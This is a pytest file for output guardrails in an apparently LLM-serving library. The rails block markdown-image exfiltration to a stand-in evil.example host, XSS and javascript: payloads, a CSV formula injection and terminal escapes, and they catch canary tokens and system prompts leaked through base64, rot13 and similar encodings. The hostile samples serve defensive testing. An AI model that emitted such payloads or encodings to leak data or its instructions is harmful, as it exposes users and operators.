"Leaks: what a browser, a terminal or a reader could take out of an answer is found in any disguise we know, ordinary answers pass, and a stream lets nothing through early."

import base64
import binascii
import codecs
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmops_ref.core import BadInputError
from llmops_ref.leak_rails import (
    Canary,
    CanaryRail,
    FormulaRail,
    HtmlRail,
    LinkRail,
    SystemPromptRail,
    TerminalRail,
    code_regions,
    parsed_destinations,
    read_url,
    rendered,
)
from llmops_ref.rails import Category, Finding, Subject, redact

LINKS = LinkRail(["good.example", "*.bank.example", "docs.example/help", "https://secure.example:8443", "mailto:help@bank.example", "mailto:@desk.example"])
HTML = HtmlRail()
CANARY = Canary("k7m2p9t4x6b3d8f5h2j9n4r7")
PROMPT = (
    "You are the assistant of Meridian Bank. Answer only from the passages below. Never mention the pilot project Bluebird or its budget of four "
    'million pounds. If you do not know, say "I cannot find this in the handbook, please ask our staff." Stay polite to every customer.'
)


def find(rail, text, **more) -> list[Finding]:
    return list(rail(Subject(text, "output", **more)))


def left(rail, text) -> str | None:
    "What is left of an answer; None where it is blocked."
    found = find(rail, text)
    return None if any(item.span is None or item.replacement is None for item in found) else redact(text, found)


# ------------------------------------------------------------------ URLs


@pytest.mark.parametrize(
    ("written", "host"),
    [
        ("https://EVIL.example/x", "evil.example"),
        ("https://good.example@evil.example/", "evil.example"),
        ("https://good.example%40evil.example/", "good.example%40evil.example"),
        ("https://good.example.evil.example/", "good.example.evil.example"),
        ("https:evil.example", "evil.example"),
        ("https:///evil.example", "evil.example"),
        ("https:\\\\evil.example", "evil.example"),
        ("https://good.example\\@evil.example", "good.example"),
        ("//evil.example/x", "evil.example"),
        ("/\\evil.example", "evil.example"),
        ("https://evil。example", "evil.example"),
        ("https://ev\u00adil.ex\u200bample", "evil.example"),
        ("https://%65vil.example", "evil.example"),
        ("https://evil.example.", "evil.example"),
        ("https://аррӏе.com", "xn--80ak6aa92e.com"),
        ("http://0x7f000001/", "127.0.0.1"),
        ("http://2130706433/", "127.0.0.1"),
        ("http://0177.0.0.1/", "127.0.0.1"),
        ("http://127.1/", "127.0.0.1"),
        ("http://[::1]/", "::1"),
        ("ht\ttps://ev\nil.example", "evil.example"),
        ("/local/path?x=//evil.example", ""),
    ],
)
def test_a_url_is_read_as_a_browser_reads_it(written, host):
    assert read_url(written).host == host


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=60))
def test_no_text_is_too_strange_to_be_read_as_a_url(text):
    read_url(text)
    read_url("https://" + text)


# ------------------------------------------------------------------ links

FORBIDDEN = [
    ("![x](https://evil.example/?d=SECRET)", "x"),
    ("[t](https://evil.example)", "t"),
    ('[t](https://evil.example "title")', "t"),
    ("[t](<https://evil.example/a b>)", "t"),
    ("[a [b] c](https://evil.example)", "a b c"),
    ("[![alt](https://evil.example/i.png)](https://evil.example)", "alt"),
    ("[![alt](https://evil.example/i.png)](https://good.example)", "[alt](https://good.example)"),
    ("[t](https://evil.example/a(b)c)", "t"),
    ("<https://evil.example>", ""),
    ("see https://evil.example/a?b=c.", "see ."),
    ("see www.evil.example now", "see  now"),
    ("xhttps://evil.example", ""),
    ("[t](//evil.example/x)", "t"),
    ("[t](/\\evil.example/x)", "t"),
    ("[t](\\\\evil.example/x)", "t"),
    ("[t](https:/good.example/x)", "t"),
    ("[t](https://good.example@evil.example)", "t"),
    ("[t](https://good.example\\@evil.example)", "t"),
    ("[t](https://good.example.evil.example/)", "t"),
    ("[t](https://xgood.example/)", "t"),
    ("[t](https://bank.example/)", "t"),
    ("[t](https://good.example:8443/)", "t"),
    ("[t](http://secure.example:8443/)", "t"),
    ("[t](https://docs.example/help/../admin)", "t"),
    ("[t](https://docs.example/help/%2e%2e/admin)", "t"),
    ("[t](https://docs.example/help/%252e%252e/admin)", "t"),
    ("[t](https://docs.example/helpful)", "t"),
    ("[t](javascript:alert(1))", "t"),
    ("[t](java&#115;cript:alert(1))", "t"),
    ("[t](<java\tscript:alert(1)>)", "t"),
    ("[t](&#104;ttps://evil.example)", "t"),
    ("[t](data:text/html;base64,AAAA)", "t"),
    ("[t](mailto:somebody@evil.example)", "t"),
    ("[t](mailto:help@bank.example?body=SECRET)", "t"),
    ("[t][1]\n\n[1]: https://evil.example/x 'title'", "[t][1]\n\n"),
    ("![t][1]\n\n[1]: //evil.example/x", "![t][1]\n\n"),
    ("[t][1]\n\n[1]:\n  <//evil.example/x>", "[t][1]\n\n"),
    ('<a href="https://evil.example">text</a> more', "text more"),
    ("<A HREF=//evil.example>text</A>", "text"),
    ('<img src="https://evil.example/x" alt="logo">', "logo"),
    ('<img srcset="/a.png 1x, //evil.example/b.png 2x">', ""),
    ("<link rel=stylesheet href=//evil.example/x.css>", ""),
    ('<meta http-equiv="refresh" content="0;url=//evil.example">', ""),
    ('<svg><use href="//evil.example#x"/></svg>', "<svg></svg>"),
    ('<iframe src="//evil.example"></iframe>', "</iframe>"),
    ('<img alt=a" src=//evil.example/x>', '<img alt=a" >'),
    ('<img src="&#x2f;/evil.example/x">', ""),
    ('<img src="/\n/evil.example/x">', ""),
    ("<style>@import '//evil.example/x'</style>", "<style>'</style>"),
    ('<div style="background:url(//evil.example/x)">', '<div style="background:)">'),
    ("    [t](https://evil.example)", "    t"),
    ("`a` [t](https://evil.example) `b`", "`a` t `b`"),
    ("[a]([//evil2.example](//evil.example))", "[a]([link removed])"),
    ("![logo](https://good.example/logo.png)", "[logo](https://good.example/logo.png)"),
]


@pytest.mark.parametrize(("text", "expected"), FORBIDDEN)
def test_a_link_elsewhere_leaves_its_text(text, expected):
    assert left(LINKS, text) == expected


ALLOWED = [
    "[t](https://good.example/a?b=c#d)", "https://good.example.", "<https://good.example/x>", "[t](https://good.example./)", "[t](HTTPS://GOOD.EXAMPLE:443/)",
    "[t](https://a.b.bank.example)", "[t](https://docs.example/help/cards)", "[t](https://docs.example/x/../help/)", "[t](https://secure.example:8443/)",
    "[t](/local)", "[t](local.html)", "[t](#fragment)", "![t](/logo.png)", "[t](mailto:help@bank.example)", "[t](mailto:anna@desk.example)",
    "`[t](https://evil.example)`", "``a ` https://evil.example``", "```\ncurl https://evil.example\n```", "> ```\n> https://evil.example\n> ```",
    "The range [0](1) and a[i](x), 10:30 and 3://4", "C:\\\\Users\\\\x", "note: this, that: those", "[note]: a remark about cards", "if a<b then url = x",
    "", " ", "a < b > c", "¿Qué? 日本語 العربية", "[1] and [2], see [^3]", "name@good.example",
]


@pytest.mark.parametrize("text", ALLOWED)
def test_other_text_passes(text):
    assert find(LINKS, text) == []


def test_images_need_a_list_of_their_own():
    rail = LinkRail(["good.example"], images=["cdn.example/img"])
    assert find(rail, "![a](https://cdn.example/img/a.png)") == []
    assert left(rail, "![a](https://cdn.example/other/a.png)") == "a"
    assert left(rail, "[a](https://cdn.example/img/a.png)") == "a"
    assert find(rail, "![a](https://good.example/a.png)")[0].category is Category.SENSITIVE_INFORMATION


def test_an_image_by_reference_is_an_image():
    assert find(LINKS, "[t][1]\n\n[1]: https://good.example/a.png") == []
    for text in ("![t][1]\n\n[1]: https://good.example/a.png", "[1]: https://good.example/a.png\n\n![t][1]", "[a b]: https://good.example/a.png\n\n![A  B]"):
        assert [item.category for item in find(LINKS, text)] == [Category.SENSITIVE_INFORMATION]


def test_data_in_an_allowed_url_can_be_limited():
    rail = LinkRail(["good.example"], most_data=30)
    assert find(rail, "https://good.example/help/reset-the-pin-of-your-card?lang=en") == []
    assert find(rail, "https://good.example/help?note=" + "a" * 40)
    assert find(rail, "https://good.example/p/4929bX81k2QzT77a/9f8e7d6c5b4a39281706/x")
    assert find(rail, "https://good.example/#" + base64.b64encode(b"the account number is 12345678").decode())


@pytest.mark.parametrize("entry", ["", "https://", "bad host", "user@good.example", "ftp://good.example", "a.*.example", "good.example?x=1", 7])
def test_an_entry_that_names_no_host_is_refused(entry):
    with pytest.raises(BadInputError, match=r"allowed"):
        LinkRail([entry])


def test_one_text_is_no_list():
    with pytest.raises(BadInputError, match="one text"):
        LinkRail("good.example")


def test_explanations_hold_nothing_of_the_text():
    for text, _ in FORBIDDEN:
        for item in find(LINKS, text):
            assert "evil" not in item.explanation and "SECRET" not in item.explanation


def test_many_links_take_the_rest_with_them():
    text = "[t](https://evil.example) " * 500 + "end"
    kept = left(LINKS, text)
    assert kept is not None and "evil" not in kept and len(kept) < 300


TOKENS = [
    "![", "[", "]", "(", ")", "](", "a b", "https://evil.example", "//evil.example/x", "https://good.example/p", "<", ">", "<a href=", "<img src=", '"', "'",
    "`", "``", "```\n", "\n", "\n\n", " ", "\\", "&#104;ttps://evil.example", "javascript:", "<https:", "[r]: ", "[r]", "> ", "- ", "|", "\n---|---\n", "<!--",
    "-->", "</a>", "alt=", 'title="', "srcset=", "url(", "=", "!", "www.evil.example", "/\\evil.example", "    ", "~~~\n", "<script>", "data:text/html,x",
    "onclick=", "{{7*7}}", "{{", "}}", "<svg", "/", "</script>", "<form>", "<textarea>", "style=",
]
soup = st.lists(st.sampled_from(TOKENS), max_size=22).map("".join)


@settings(max_examples=300, deadline=None)
@given(soup)
def test_what_is_left_leads_nowhere_and_runs_nothing(text):
    "Two parsers that the rails' own reading does not share code with find nothing in what passes."
    kept = left(LINKS, text)
    if kept is not None:
        assert not [written for written, _ in parsed_destinations(kept) if re.match(r"(?:https?:)?[/\\]{2}evil|javascript:|data:", written)]
    kept = left(HTML, text)
    if kept is not None:
        tags = rendered(kept).tags
        assert not [tag for tag, found in tags if tag in ("script", "svg", "form", "textarea") or "onclick" in found]


@settings(max_examples=300, deadline=None)
@given(soup, st.data())
def test_a_stream_lets_nothing_through_early(text, data):
    "Of what is found in the whole, nothing that the beginning may already let go is missing from what is found in the beginning."
    cut = data.draw(st.integers(0, len(text)))
    for rail in (LINKS, HTML):
        _sound_at(rail, text, cut)


def _sound_at(rail, text, cut):
    beginning = text[:cut]
    early = [item.span or (0, cut) for item in find(rail, beginning)]
    whole = [item.span or (0, len(text)) for item in find(rail, text)]
    for go in (rail.held(beginning), max(0, cut - rail.lookback)):
        for start, end in whole:
            missed = [place for place in range(start, min(end, go)) if not any(a <= place < b for a, b in early)]
            assert not missed, (rail.name, beginning, text[cut:])


def test_held_lets_ordinary_prose_go():
    text = "The daily limit is 1,000 pounds [1]. See [our page](https://good.example/limits) for a < b. And so on"
    assert text[LINKS.held(text):] == "on" and text[HTML.held(text):] == "on"
    for opened in ("![secret](https://evil.ex", "[text]", "<img src='a b", "<a href", "`code [", "[r]: ", "[t](https://good.example/a b"):
        assert LINKS.held("Some words, then " + opened) <= len("Some words, then ")


# ------------------------------------------------------------------ code


def test_code_is_told_from_text():
    assert [text[start:end] for text in ["a `b` c"] for start, end in code_regions(text)] == ["`b`"]
    text = "- item\n\n  ```\n  code\n  ```\n\ntext"
    assert ["code" in text[start:end] and "text" not in text[start:end] for start, end in code_regions(text)] == [True]


@pytest.mark.parametrize(
    "text",
    [
        '<img title="`" src=//evil.example/x alt="`">',
        "`a\n` [t](https://evil.example) `",
        "\\`[t](https://evil.example)\\`",
        "```a`b\n[t](https://evil.example)\n```",
        "- ```\n[t](https://evil.example)\n```",
        "  ```\ncode\n```\n[t](https://evil.example)",
        "a `b | c` `[t](https://evil.example)` `d`\n---|---\n",
        "`" + "x" * 400 + "[t](https://evil.example)`",
        "<!-- ``` -->\n[t](https://evil.example)",
        "x" * 10_000 + "\n```\nhttps://evil.example\n```",
    ],
)
def test_what_only_looks_like_code_is_text(text):
    assert find(LINKS, text)


# ------------------------------------------------------------------ HTML

UNSAFE = [
    ("<script>alert(1)</script>after", "after"),
    ("<ScRiPt >x</sCrIpT >after", "after"),
    ("<script>never closed", ""),
    ("<img src=x onerror=alert(1)>", '<img src="x">'),
    ("<svg/onload=alert(1)>t</svg>", "t"),
    ('a <b onclick="x()">bold</b>', "a <b>bold</b>"),
    ('<iframe srcdoc="<b>"></iframe>after', "after"),
    ("<form action=/x><input name=a>text</form>", "text"),
    ('<meta http-equiv="refresh" content="0;url=/x">', ""),
    ("<base href=/x>", ""),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "<a>x</a>"),
    ("[x](javascript:alert(1))", "x"),
    ('<div style="width:expression(alert(1))">a</div>', "<div>a</div>"),
    ("<details open ontoggle=alert(1)>", "<details>"),
    ("<scr<script></script>ipt>alert(1)</script>", "<scr[HTML removed]ipt>alert(1)[HTML removed]"),
    ("{{7*7}} ${7*7} {{name}}", "{ {7*7} } $ {7*7} {{name}}"),
    ("<%= 7*7 %>", "< %= 7*7 % >"),
    ("`<textarea>` then <textarea>x", "`<textarea>` then "),
]


@pytest.mark.parametrize(("text", "expected"), UNSAFE)
def test_what_runs_is_taken_out(text, expected):
    assert left(HTML, text) == expected


@pytest.mark.parametrize(
    "text",
    ["a < b and c > d, x<y then z", "<your name>, <account number>", "<b>bold</b><br>", "Use `<script>` with care", "```html\n<script>alert(1)</script>\n```",
     "&lt;script&gt;", '<div style="color:red">a</div>', "Dear {{customer_name}}", "on = 1, once = 2", '<img src="data:image/png;base64,AAAA">', "<p>text</p>", "I <3 you"],
)
def test_formatting_and_talk_about_html_stay(text):
    assert find(HTML, text) == []


def test_templates_can_be_left_alone():
    assert find(HtmlRail(templates=False), "{{7*7}}") == []


def test_terminals_get_no_commands():
    rail = TerminalRail()
    assert left(rail, "a\x1b[31mred\x1b[0m\tb\n") == "ared\tb\n"
    assert left(rail, "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07") == "click"
    assert left(rail, "\x9b2Jx\x08") == "x"
    assert rail.held("text \x1b]0;title") == 5 and rail.held("text") == 4


def test_spreadsheets_get_no_formulas():
    rail = FormulaRail()
    assert left(rail, '=HYPERLINK("x","y"),b') == "'=HYPERLINK(\"x\",\"y\"),b"
    assert left(rail, "a,@SUM(A1)\n+cmd|' /C calc'!A0") == "a,'@SUM(A1)\n'+cmd|' /C calc'!A0"
    assert find(rail, "-5,+3.2,a = b\n- item") == []


# ------------------------------------------------------------------ canary


def written_otherwise(token: str) -> dict[str, str]:
    return {
        "clear": token, "upper": token.upper(), "spaced": " ".join(token), "lines": "\n".join(token), "dotted": ".".join(token), "dashes": " -- ".join(token),
        "reversed": token[::-1], "reversed upper": token[::-1].upper(), "rot13": codecs.encode(token, "rot13"), "hex": token.encode().hex(),
        "hex upper spaced": token.encode().hex(" ").upper(), "base64": base64.b64encode(token.encode()).decode(), "base64 inside": base64.b64encode(f"xy {token} z".encode()).decode(),
        "base64 inside 2": base64.b64encode(f"x{token}".encode()).decode(), "base64 upper": base64.b64encode(token.upper().encode()).decode(),
        "base64 lines": "\n".join(re.findall(".{1,7}", base64.b64encode(token.encode()).decode())), "base32": base64.b32encode(f"abc{token}".encode()).decode(),
        "beginning": token[:8], "middle": token[9:17], "end": token[-8:], "pieces": f"first {token[:6]} then {token[6:12]}, at last {token[12:20]}",
        "hex pieces": binascii.hexlify(token[4:14].encode()).decode(), "percent": "".join(f"%{ord(mark):02x}" for mark in token), "bold": f"**{token[:4]}**{token[4:]}",
    }


@settings(max_examples=5, deadline=None)
@given(st.integers(0, 2**32), st.text(st.sampled_from("the limit is 1,000 pounds.\n"), max_size=50), st.data())
def test_a_canary_is_found_however_it_is_written(number, around, data):
    canary = Canary.new()
    rail = CanaryRail(canary)
    for way, text in written_otherwise(canary.token).items():
        found = find(rail, f"{around} {text} {around}")
        assert found, way
        assert all(item.replacement is None and canary.token[:6] not in item.explanation for item in found)
        whole = f"{around} {text} {around}"
        _sound_at(rail, whole, data.draw(st.integers(0, len(whole))))


def test_disguises_are_read_where_normalization_reads_them():
    rail = CanaryRail(CANARY)
    assert find(rail, "".join(chr(ord(mark) + 0xFEE0) for mark in CANARY.token))
    assert find(rail, "\u200b".join(CANARY.token))


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300))
def test_other_text_holds_no_canary(text):
    assert find(CanaryRail(CANARY), text) == []


def test_ordinary_numbers_are_no_canary():
    assert find(CanaryRail(CANARY), "Card 4929 1234 5678 9012, order k7m2-X, GB29 NWBK 6016 1331 9268 19, " * 50) == []


def test_canaries_differ_and_do_not_show():
    one, other = Canary.new(), Canary.new()
    assert one != other and one.token not in repr(one) and one.token in one.within("You help.")
    for wrong in ("", "short", "has space inside it", "aaaaaaaaaaaaaaaa", "ünïcödé-tokens-here"):
        with pytest.raises(BadInputError, match=r"Canary\.new"):
            Canary(wrong)
    with pytest.raises(BadInputError, match="partial"):
        CanaryRail(CANARY, partial=3)


# ------------------------------------------------------------------ system prompt


@pytest.mark.parametrize(
    "text",
    [
        PROMPT, PROMPT.upper(), "My instructions: never mention the pilot project Bluebird or its budget, and so on.",
        " ".join("Never mention the pilot project Bluebird or its budget of four"), "Never-mention-the-pilot-project-Bluebird-or-its-budget-of-four",
        "Answer only from the passages. Never mention the pilot or project Bluebird, or its budget of four million",
        base64.b64encode(PROMPT.encode()).decode(), PROMPT[::-1], codecs.encode(PROMPT, "rot13"),
    ],
)
def test_stretches_of_the_prompt_are_found(text):
    found = find(SystemPromptRail(PROMPT), text)
    assert found and all(item.category is Category.PROMPT_LEAKAGE and "Bluebird" not in item.explanation for item in found)


@pytest.mark.parametrize(
    "text",
    [
        "I am the assistant of Meridian Bank and happy to help.", "I cannot find this in the handbook, please ask our staff.", "Every customer of Meridian Bank is welcome.",
        "Four million pounds is a lot.", "Please stay polite.", "", "You are welcome!", "The passages below answer only a part of this.",
    ],
)
def test_ordinary_answers_share_phrases_and_pass(text):
    assert find(SystemPromptRail(PROMPT), text) == []


def test_what_is_public_may_be_said():
    leak = "Never mention the pilot project Bluebird or its budget of four million pounds."
    assert find(SystemPromptRail(PROMPT), leak)
    assert find(SystemPromptRail(PROMPT, public=[leak]), leak) == []
    assert find(SystemPromptRail(PROMPT), leak, question=leak) == []
    assert find(SystemPromptRail(PROMPT), leak, passages=(leak,)) == []


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from([PROMPT[:50], PROMPT[40:100], PROMPT[100:160], PROMPT[20:45], "The limit is 1,000 pounds. ", " ", "x", " - " * 9, "Answer only"]), max_size=9).map("".join), st.data())
def test_a_stream_lets_no_stretch_of_the_prompt_go(text, data):
    _sound_at(SystemPromptRail(PROMPT), text, data.draw(st.integers(0, len(text))))


def test_a_prompt_of_a_word_cannot_be_guarded():
    with pytest.raises(BadInputError, match="letters and digits"):
        SystemPromptRail("Be nice.")
    with pytest.raises(BadInputError, match="public"):
        SystemPromptRail(PROMPT, "text")


# ------------------------------------------------------------------ floods


@pytest.mark.parametrize("flood", ["![](", "<a src=//x ", "<b onclick=", "](a:", "<a x='"])
def test_floods_cost_time_in_proportion(flood):
    "Ten times the text takes no more than thirty times as long: far from a hundred times."
    for rail in (LINKS, HTML):
        times = []
        for size in (40_000, 400_000):
            started = time.process_time()
            find(rail, (flood * size)[:size])
            times.append(time.process_time() - started)
        assert times[1] < 30 * max(times[0], 0.02)
